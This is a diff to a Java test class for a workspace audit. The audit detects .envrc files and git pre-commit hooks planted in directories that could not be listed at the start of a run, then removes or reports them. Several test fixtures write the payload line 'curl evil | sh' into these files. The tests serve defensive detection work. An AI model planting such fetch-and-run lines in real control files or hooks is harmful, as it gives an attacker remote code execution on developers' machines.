@@ -135,13 +135,63 @@ class UnlistedDirectoryTest {
     }
 
     @Test
-    void aDirectoryUnlistableBeforeThatTheRunOpenedFails() throws IOException {
+    void aDirectoryUnlistableBeforeThatTheRunOpenedFailsAndWhatWasPlantedInItIsRemoved() throws IOException {
         Path sub = Files.createDirectories(ws.resolve("sub"));
         chmod(sub, 0);
         ControlFileAudit.Baseline baseline = asAUser().before();
         chmod(sub, 0700);
-        Files.writeString(sub.resolve(".envrc"), "curl evil | sh\n");
-        assertUnaudited(baseline.after(ControlFilesAction.RESTORE), sub);
+        Path envrc = Files.writeString(sub.resolve(".envrc"), "curl evil | sh\n");
+        Path hook = Files.createDirectories(sub.resolve("deeper/.git/hooks")).resolve("pre-commit");
+        Files.writeString(hook, "#!/bin/sh\ncurl evil | sh\n");
+        Path plain = Files.writeString(sub.resolve("notes.txt"), "kept");
+        ControlFileAudit.Report report = baseline.after(ControlFilesAction.RESTORE);
+
+        assertThat(report.changed()).isTrue();
+        assertThat(report.unaudited()).containsExactly(sub);
+        assertThat(report.changes()).extracting(Change::path).contains(envrc).allMatch(p -> p.startsWith(sub));
+        assertThat(report.changes()).allSatisfy(c -> assertThat(c).isInstanceOf(Change.Created.class));
+        assertThat(envrc).doesNotExist();
+        assertThat(hook).doesNotExist();
+        assertThat(plain).as("only control entries are the audit's").hasContent("kept");
+        assertThat(report.diagnostics()).anySatisfy(d -> {
+            assertThat(d.subject()).isEqualTo(sub.toString());
+            assertThat(d.details()).containsEntry("change", "unaudited");
+            assertThat(d.message()).contains("could not list it before").contains("removed");
+        });
+        assertThat(report.diagnostics()).anySatisfy(d -> {
+            assertThat(d.subject()).isEqualTo(envrc.toString());
+            assertThat(d.layer()).isEqualTo(Layer.AUDIT);
+            assertThat(d.details()).containsEntry("change", "created").containsEntry("restored", "true");
+        });
+    }
+
+    @Test
+    void aDirectoryUnlistableBeforeThatTheRunOpenedIsReportedEntryByEntryWhenOnlyReporting() throws IOException {
+        Path sub = Files.createDirectories(ws.resolve("sub"));
+        chmod(sub, 0);
+        ControlFileAudit.Baseline baseline = asAUser().before();
+        chmod(sub, 0700);
+        Path envrc = Files.writeString(sub.resolve(".envrc"), "curl evil | sh\n");
+        ControlFileAudit.Report report = baseline.after(ControlFilesAction.REPORT);
+        assertThat(report.unaudited()).containsExactly(sub);
+        assertThat(report.changes()).singleElement().isInstanceOfSatisfying(Change.Created.class,
+                c -> assertThat(c.path()).isEqualTo(envrc));
+        assertThat(envrc).exists();
+        assertThat(report.diagnostics()).anySatisfy(d -> assertThat(d.message()).contains("left as it is"));
+    }
+
+    @Test
+    void aHooksDirectoryUnlistableBeforeThatTheRunOpenedLosesWhatWasPlantedButStaysItself() throws IOException {
+        Path hooks = ws.resolve(".git/hooks");
+        chmod(hooks, 0);
+        ControlFileAudit.Baseline baseline = asAUser().before();
+        chmod(hooks, 0700);
+        Path hook = Files.writeString(hooks.resolve("pre-commit"), "#!/bin/sh\ncurl evil | sh\n");
+        ControlFileAudit.Report report = baseline.after(ControlFilesAction.RESTORE);
+        assertThat(report.unaudited()).containsExactly(hooks);
+        assertThat(hook).doesNotExist();
+        assertThat(hooks).as("the directory itself was recorded before: put back, not removed").isDirectory();
+        assertThat(report.changes()).extracting(Change::path).contains(hook).doesNotContain(ws.resolve(".git"));
     }
 
     @Test
